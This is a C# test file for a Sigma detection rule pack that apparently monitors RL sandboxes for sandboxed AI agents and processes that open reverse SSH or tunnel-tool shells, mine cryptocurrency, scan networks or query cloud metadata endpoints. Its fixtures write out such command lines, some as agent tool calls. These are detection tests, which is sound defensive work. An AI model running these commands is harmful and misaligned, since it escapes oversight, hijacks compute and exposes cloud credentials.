using System.Text.RegularExpressions;
using AlertPipeline.Core.Detect;
using AlertPipeline.Core.Detect.Sigma;
using AlertPipeline.Core.Events;

namespace AlertPipeline.Core.Tests.Detect;

/// <summary>The bundled rule pack (rules/default) is sound: every rule compiles and carries the metadata alerts need.</summary>
public sealed partial class RulePackTests
{
    /// <summary>The repository root: the nearest folder above the test binaries that holds AlertPipeline.sln.</summary>
    internal static string RepoRoot()
    {
        for (var dir = new DirectoryInfo(AppContext.BaseDirectory); dir is not null; dir = dir.Parent)
        {
            if (File.Exists(Path.Combine(dir.FullName, "AlertPipeline.sln")))
            {
                return dir.FullName;
            }
        }

        throw new InvalidOperationException($"No AlertPipeline.sln above {AppContext.BaseDirectory}.");
    }

    /// <summary>The pack's folder.</summary>
    internal static string PackDirectory => Path.Combine(RepoRoot(), "rules", "default");

    /// <summary>Every rule file of the pack, by file name, in ordinal order.</summary>
    internal static IReadOnlyList<string> RuleFileNames() =>
        [.. Directory.EnumerateFiles(PackDirectory).Select(Path.GetFileName).OfType<string>().Order(StringComparer.Ordinal)];

    /// <summary>The pack as stored rule rows (pack <c>default</c>, enabled, enforce).</summary>
    internal static IReadOnlyList<(string File, RuleRecord Record)> LoadPack()
    {
        var rows = new List<(string, RuleRecord)>();
        foreach (var name in RuleFileNames())
        {
            var yaml = File.ReadAllText(Path.Combine(PackDirectory, name));
            rows.Add((name, RuleRecord.FromSigma("default", yaml, RuleMode.Enforce, DateTimeOffset.UnixEpoch)));
        }

        return rows;
    }

    public static TheoryData<string> RuleFiles() => new(RuleFileNames());

    [Fact]
    public void PackHoldsOnlyYamlRulesNamedBySlug()
    {
        var names = RuleFileNames();
        Assert.True(names.Count >= 12, $"expected the full pack, found {names.Count} files");
        Assert.All(names, n => Assert.Matches(SlugFileName(), n));
    }

    [Theory]
    [MemberData(nameof(RuleFiles))]
    public void RuleCompilesWithCompleteMetadata(string file)
    {
        var yaml = File.ReadAllText(Path.Combine(PackDirectory, file));

        CompiledRule rule;
        try
        {
            rule = SigmaRuleCompiler.Compile(yaml);
        }
        catch (RuleCompileException ex)
        {
            Assert.Fail($"{file}:{ex.Line}:{ex.Column}: {ex.Problem}");
            return;
        }

        Assert.Matches(UuidV4(), rule.Id);
        Assert.DoesNotContain(rule.Id, PackRuleSet().Errors.Select(e => e.RuleId)); // correlations link within the pack
        Assert.False(string.IsNullOrWhiteSpace(rule.Title));
        Assert.False(string.IsNullOrWhiteSpace(rule.Description));
        Assert.Contains(rule.Status, new[] { "experimental", "test", "stable" });
        Assert.Contains(rule.Tags, t => AttackTechnique().IsMatch(t));
        Assert.NotEmpty(rule.References);
        Assert.All(rule.References, r => Assert.StartsWith("https://", r, StringComparison.Ordinal));
        Assert.NotEmpty(rule.FalsePositives);
        Assert.True(rule.Correlation is not null || rule.Fields.Count > 0, $"{file} reads no field");

        // The level is written in the rule, not defaulted, and agrees with what was compiled.
        var level = LevelLine().Match(yaml);
        Assert.True(level.Success, $"{file} has no level");
        Assert.True(AlertLevels.TryParse(level.Groups[1].Value, out var written));
        Assert.Equal(written, rule.Level);
        // Rules that raise alerts are worth a human's attention; rules that only feed correlations are not, alone.
        var feedsOnly = PackRuleSet().Rules.Any(r => r.Rule.Id == rule.Id && !r.Generates);
        Assert.True(feedsOnly || rule.Level >= AlertLevel.Medium, $"{file}: the pack's alerting rules are all worth a human's attention");
        Assert.True(!feedsOnly || rule.Level <= AlertLevel.Low, $"{file}: a rule that only feeds correlations says so with its level");

        Assert.Matches(AuthorLine(), yaml);
        Assert.Matches(DateLine(), yaml);
    }

    /// <summary>The pack compiled and linked as the pipeline does.</summary>
    internal static RuleSet PackRuleSet() => RuleSet.Compile(LoadPack().Select(r => r.Record));

    [Fact]
    public void RuleIdsAreUnique()
    {
        var ids = LoadPack().Select(r => r.Record.Id).ToList();
        Assert.Equal(ids.Count, ids.Distinct(StringComparer.OrdinalIgnoreCase).Count());
    }

    // ---- What each rule must and must not catch (events as the parsers and enrichers leave them) ----

    private const string Sbx = "sandbox.id=rl-env-0001";

    private static string[] Proc(string executable, string commandLine) =>
        ["event.category=process", "event.type=start", Sbx, $"process.executable={executable}",
         $"process.name={executable[(executable.LastIndexOf('/') + 1)..]}", $"process.command_line={commandLine}"];

    private static string[] Conn(string ip, int port, string addressClass, params string[] more) =>
        ["event.category=network", "event.type=connection", Sbx, $"destination.ip={ip}", $"destination.port={port}",
         $"destination.address_class={addressClass}", .. more];

    private static string[] Fw(string action, int port, string kind = "event", bool sandbox = true) =>
        ["event.category=network", "observer.type=firewall", $"event.action={action}", $"event.kind={kind}",
         $"destination.port={port}", "destination.ip=198.51.100.7", "destination.address_class=public",
         .. sandbox ? new[] { Sbx } : []];

    public static TheoryData<string, bool, string[]> MatchCases() => new()
    {
        { "coin-miner-process.yml", true, Proc("/tmp/.x/xmrig", "/tmp/.x/xmrig -c config.json") },
        { "coin-miner-process.yml", true, Proc("/opt/t-rex/t-rex", "/opt/t-rex/t-rex -a kawpow -o pool:4444") },
        { "coin-miner-process.yml", true, Proc("/dev/shm/kworker", "/dev/shm/kworker -o 198.51.100.9:443 --donate-level=0 --cuda") },
        { "coin-miner-process.yml", false, Proc("/usr/bin/python3", "python3 train.py --config configs/ppo.yaml") },
        { "coin-miner-process.yml", false, Proc("/usr/bin/python3", "python3 -m pip install -q -r requirements.txt") },
        { "stratum-command-line.yml", true, Proc("/tmp/.x/systemd-journal", "/tmp/.x/systemd-journal -o stratum+ssl://gulf.example:443 -u W") },
        { "stratum-command-line.yml", true, Proc("/opt/m/miner", "/opt/m/miner --server stratum2+tcp://198.51.100.3:3333") },
        { "stratum-command-line.yml", false, Proc("/usr/bin/curl", "curl -fsSL https://huggingface.co/api/datasets") },
        { "gpu-miner-process.yml", true, ["event.dataset=gpu.metrics", Sbx, "process.name=xmrig", "gpu.utilization=98.5"] },
        { "gpu-miner-process.yml", false, ["event.dataset=gpu.metrics", Sbx, "process.name=python3", "gpu.utilization=97.0"] },
        { "mining-pool-connection.yml", true, Conn("198.51.100.4", 443, "public", "destination.domain=gulf.moneroocean.stream") },
        { "mining-pool-connection.yml", true, Conn("198.51.100.4", 443, "public", "tls.client.server_name=xmr-eu1.nanopool.org") },
        { "mining-pool-connection.yml", false, Conn("192.0.2.20", 443, "public", "destination.domain=cdn-lfs.huggingface.co") },
        { "mining-pool-dns.yml", true, ["event.category=network", Sbx, "dns.question.name=rx.unmineable.com."] },
        { "mining-pool-dns.yml", false, ["event.category=network", Sbx, "dns.question.name=files.pythonhosted.org"] },
        { "stratum-port-connection.yml", true, Conn("198.51.100.4", 14444, "public") },
        { "stratum-port-connection.yml", false, Conn("10.40.3.3", 3333, "private") },
        { "stratum-port-connection.yml", false, Conn("10.40.77.33", 29500, "private") },
        { "stratum-port-connection.yml", false, Conn("192.0.2.10", 443, "public") },
        { "firewall-deny-mining-port.yml", true, Fw("deny", 3333) },
        { "firewall-deny-mining-port.yml", false, Fw("allow", 3333) },
        { "firewall-deny-mining-port.yml", false, Fw("deny", 443) },
        { "ssh-reverse-tunnel.yml", true, Proc("/usr/bin/ssh", "ssh -fNR 2222:localhost:22 user@203.0.113.5") },
        { "ssh-reverse-tunnel.yml", true, Proc("/usr/bin/ssh", "ssh -R 8080:127.0.0.1:80 203.0.113.5") },
        { "ssh-reverse-tunnel.yml", true, Proc("/usr/bin/ssh", "ssh -o StrictHostKeyChecking=no -o ServerAliveInterval=30 -R 2222:localhost:22 u@h") },
        { "ssh-reverse-tunnel.yml", true, Proc("/usr/bin/ssh", "ssh -N -D 1080 u@203.0.113.5") },
        { "ssh-reverse-tunnel.yml", true, Proc("/usr/bin/ssh", "ssh -N -o RemoteForward=\"2222 localhost:22\" u@h") },
        { "ssh-reverse-tunnel.yml", false, Proc("/usr/bin/ssh", "ssh -o BatchMode=yes -i /home/eval/.ssh/id_ed25519 eval@10.40.0.10 cat /srv/m.json") },
        { "ssh-reverse-tunnel.yml", false, Proc("/usr/bin/ssh", "ssh -p 2222 -l Dave bastion.internal") },
        { "ssh-reverse-tunnel.yml", false, Proc("/usr/bin/cp", "cp -R /mnt/ckpt/step-1200 /mnt/ckpt/latest") },
        { "tunnel-tool.yml", true, Proc("/tmp/chisel", "/tmp/chisel client 203.0.113.5:8443 R:2222:127.0.0.1:22") },
        { "tunnel-tool.yml", true, Proc("/tmp/.x/dbus-helper", "/tmp/.x/dbus-helper client --fingerprint x 203.0.113.5:443 R:socks") },
        { "tunnel-tool.yml", true, Proc("/usr/local/bin/frpc", "frpc -c /tmp/frpc.toml") },
        { "tunnel-tool.yml", true, Proc("/usr/local/bin/ngrok", "ngrok tcp 22") },
        { "tunnel-tool.yml", true, Proc("/usr/bin/socat", "socat TCP-LISTEN:2222,fork TCP:203.0.113.5:22") },
        { "tunnel-tool.yml", true, Proc("/usr/local/bin/cloudflared", "cloudflared tunnel --url ssh://localhost:22") },
        { "tunnel-tool.yml", true, Proc("/usr/bin/autossh", "autossh -M 0 -fN -R 2222:localhost:22 u@h") },
        { "tunnel-tool.yml", true, Proc("/tmp/bore", "bore local 22 --to bore.example") },
        { "tunnel-tool.yml", false, Proc("/usr/local/bin/cloudflared", "cloudflared --version") },
        { "tunnel-tool.yml", false, Proc("/usr/bin/python3", "python3 -m http.server 8000") },
        { "outbound-ssh-public.yml", true, Conn("203.0.113.66", 22, "public") },
        { "outbound-ssh-public.yml", false, Conn("10.40.0.10", 22, "private") },
        { "outbound-ssh-public.yml", false, Conn("192.0.2.50", 443, "public") },
        { "metadata-endpoint-connection.yml", true, Conn("169.254.169.254", 80, "metadata") },
        { "metadata-endpoint-connection.yml", true, Conn("100.100.100.200", 80, "metadata") },
        { "metadata-endpoint-connection.yml", false, Conn("168.63.129.16", 53, "metadata") },
        { "metadata-endpoint-connection.yml", false, Conn("10.40.0.4", 53, "private") },
        { "metadata-endpoint-command-line.yml", true, Proc("/usr/bin/curl", "curl -s -H Metadata:true http://169.254.169.254/metadata/instance?api-version=2021-02-01") },
        { "metadata-endpoint-command-line.yml", true, Proc("/usr/bin/wget", "wget -qO- --header Metadata-Flavor:Google http://metadata.google.internal/computeMetadata/v1/instance/") },
        { "metadata-endpoint-command-line.yml", false, Proc("/usr/bin/curl", "curl -fsSLO https://rl-datasets-prod.s3.amazonaws.com/shard-0001.parquet") },
        { "network-scanner.yml", true, Proc("/usr/bin/nmap", "nmap -sT 10.40.0.0/16") },
        { "network-scanner.yml", true, Proc("/usr/local/bin/naabu", "naabu -host 10.40.0.0/16 -top-ports 100") },
        { "network-scanner.yml", false, Proc("/usr/bin/ping", "ping -c 1 10.40.0.10") },
        { "mass-scanner.yml", true, Proc("/usr/bin/masscan", "masscan 10.0.0.0/8 -p22,443 --rate 100000") },
        { "mass-scanner.yml", true, Proc("/usr/sbin/zmap", "zmap -p 6379 10.40.0.0/16") },
        { "mass-scanner.yml", false, Proc("/usr/bin/nmap", "nmap -sT 10.40.0.0/16") },
        { "firewall-threat-alert.yml", true, Fw("deny", 443, kind: "alert") },
        { "firewall-threat-alert.yml", false, Fw("deny", 443, kind: "alert", sandbox: false) },
        { "firewall-threat-alert.yml", false, Fw("allow", 443) },
        { "firewall-deny.yml", true, Fw("deny", 443) },
        { "firewall-deny.yml", false, Fw("allow", 443) },
        { "firewall-deny.yml", false, Fw("deny", 443, sandbox: false) },
        { "internal-connection.yml", true, Conn("10.40.1.5", 22, "private") },
        { "internal-connection.yml", false, Conn("192.0.2.20", 443, "public") },
        { "tunnel-setup.yml", true, Proc("/usr/bin/ssh", "ssh -fNR 2222:localhost:22 u@203.0.113.5") },
        { "tunnel-setup.yml", true, Proc("/usr/bin/autossh", "autossh -M 0 -N -D 1080 u@h") },
        { "tunnel-setup.yml", false, Proc("/usr/bin/ssh", "ssh -p 2222 -l Dave bastion.internal") },
        { "long-outbound-session.yml", true, Conn("203.0.113.66", 22, "public", "event.duration=900000000000") },
        { "long-outbound-session.yml", false, Conn("203.0.113.66", 22, "public", "event.duration=30000000000") },
        { "long-outbound-session.yml", false, Conn("10.40.0.10", 22, "private", "event.duration=900000000000") },
        { "miner-download.yml", true, Proc("/usr/bin/curl", "curl -sLO http://203.0.113.80/xmrig-6.21.0-linux-static-x64.tar.gz") },
        { "miner-download.yml", true, Proc("/usr/bin/wget", "wget -q https://example.org/lolMiner_v1.88_Lin64.tar.gz") },
        { "miner-download.yml", false, Proc("/usr/bin/curl", "curl -fsSLO https://rl-datasets-prod.s3.amazonaws.com/shard-0001.parquet") },
        { "miner-download.yml", false, Proc("/tmp/.cache/xmrig", "/tmp/.cache/xmrig -o stratum+tcp://p:3333") },
        { "gpu-saturation.yml", true, ["event.dataset=gpu.metrics", Sbx, "process.name=python3", "gpu.utilization=97.5"] },
        { "gpu-saturation.yml", false, ["event.dataset=gpu.metrics", Sbx, "process.name=python3", "gpu.utilization=62.0"] },
        { "gpu-hijack.yml", true, ["event.dataset=gpu.metrics", Sbx, "process.name=xmrig", "gpu.utilization=98.5", "gpu.unexplained=process-not-expected"] },
        { "gpu-hijack.yml", true, ["event.dataset=gpu.metrics", Sbx, "process.name=python3", "gpu.utilization=97.0", "gpu.unexplained=gpu-not-assigned"] },
        { "gpu-hijack.yml", true, ["event.dataset=gpu.metrics", Sbx, "process.name=python3", "gpu.memory.used=40960", "gpu.unexplained=run-idle"] },
        { "gpu-hijack.yml", false, ["event.dataset=gpu.metrics", Sbx, "process.name=python3", "gpu.utilization=97.0"] },
        { "gpu-hijack.yml", false, ["event.dataset=gpu.metrics", Sbx, "process.name=xmrig", "gpu.utilization=98.5", "gpu.unexplained=something-else"] },
        { "gpu-hijack.yml", false, ["event.dataset=sandbox.process", Sbx, "process.name=xmrig", "gpu.unexplained=process-not-expected"] },
        { "agent-tool-call-tunnel.yml", true, ["event.dataset=sandbox.tool_call", Sbx, "tool.name=bash", "tool.input=ssh -fNR 2222:localhost:22 tunnel@203.0.113.66"] },
        { "agent-tool-call-tunnel.yml", false, ["event.dataset=sandbox.tool_call", Sbx, "tool.name=bash", "tool.input={\"command\":\"nohup ./xmrig -o stratum+tcp://p:3333 &\"}"] },
        { "agent-tool-call-tunnel.yml", false, ["event.dataset=sandbox.tool_call", Sbx, "tool.name=bash", "tool.input=cp -R data/ /tmp/data && ssh-keygen -t ed25519 -N '' -f k"] },
        { "agent-tool-call-mining.yml", true, ["event.dataset=sandbox.tool_call", Sbx, "tool.name=bash", "tool.input={\"command\":\"nohup ./xmrig -o stratum+tcp://p:3333 &\"}"] },
        { "agent-tool-call-mining.yml", false, ["event.dataset=sandbox.tool_call", Sbx, "tool.name=bash", "tool.input=ssh -fNR 2222:localhost:22 tunnel@203.0.113.66"] },
        { "agent-tool-call-mining.yml", false, ["event.dataset=sandbox.tool_call", Sbx, "tool.name=bash", "tool.input=python3 -m pytest -q tests/"] },
        { "agent-tool-call-metadata.yml", true, ["event.dataset=sandbox.tool_call", Sbx, "tool.name=bash", "tool.input=curl -s -H Metadata:true http://169.254.169.254/metadata/instance"] },
        { "agent-tool-call-metadata.yml", false, ["event.dataset=sandbox.tool_call", Sbx, "tool.name=bash", "tool.input=curl -s https://pypi.org/simple/"] },
        { "indicator-pool-or-tunnel.yml", true, Conn("198.51.100.45", 3333, "public", "threat.indicator.kind=mining-pool", "threat.indicator.ip=198.51.100.0/24") },
        { "indicator-pool-or-tunnel.yml", true, ["event.category=network", Sbx, "dns.question.name=x.tunnel.example", "threat.indicator.kind=tunnel-service"] },
        { "indicator-pool-or-tunnel.yml", false, Conn("198.51.100.45", 443, "public", "threat.indicator.kind=threat-intel") },
        { "indicator-pool-or-tunnel.yml", false, Conn("192.0.2.20", 443, "public", "destination.domain=cdn-lfs.huggingface.co") },
        { "indicator-pool-or-tunnel.yml", false, ["event.category=network", "observer.type=firewall", "destination.ip=198.51.100.45", "threat.indicator.kind=mining-pool"] },
    };

    [Fact]
    public void EveryRuleHasMatchCases()
    {
        var covered = MatchCases().Select(c => (string)c[0]).Concat(Correlation.CorrelationPackTests.Cases().Select(c => (string)c[0])).ToHashSet(StringComparer.Ordinal);
        Assert.All(RuleFileNames(), f => Assert.Contains(f, covered));
    }

    [Theory]
    [MemberData(nameof(MatchCases))]
    public void RuleMatchesItsCases(string file, bool expected, string[] fields)
    {
        var rule = SigmaRuleCompiler.Compile(File.ReadAllText(Path.Combine(PackDirectory, file)));
        var batch = new EventBatch();
        batch.BeginEvent(new SourcePosition("cases", 1, 0), "test");
        foreach (var pair in fields)
        {
            var eq = pair.IndexOf('=', StringComparison.Ordinal);
            Assert.True(EcsFields.TryGet(pair[..eq], out var field), $"unknown field {pair[..eq]}");
            var value = pair[(eq + 1)..];
            if (EcsFields.Get(field).Kind == FieldKind.Long)
            {
                batch.Set(field, long.Parse(value, System.Globalization.CultureInfo.InvariantCulture));
            }
            else
            {
                batch.Set(field, value);
            }
        }

        batch.SetTimestamp(new DateTimeOffset(2025, 11, 14, 3, 20, 0, TimeSpan.Zero));
        batch.CommitEvent();
        Assert.Equal(expected, rule.Matches(batch, 0));
    }

    [GeneratedRegex(@"^[a-z0-9]+(-[a-z0-9]+)*\.yml$")]
    private static partial Regex SlugFileName();

    [GeneratedRegex(@"^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$")]
    private static partial Regex UuidV4();

    [GeneratedRegex(@"^attack\.t\d{4}(\.\d{3})?$")]
    private static partial Regex AttackTechnique();

    [GeneratedRegex(@"^level:\s*(\w+)\s*$", RegexOptions.Multiline)]
    private static partial Regex LevelLine();

    [GeneratedRegex(@"^author:\s*AlertPipeline\s*$", RegexOptions.Multiline)]
    private static partial Regex AuthorLine();

    [GeneratedRegex(@"^date:\s*\d{4}-\d{2}-\d{2}\s*$", RegexOptions.Multiline)]
    private static partial Regex DateLine();
}
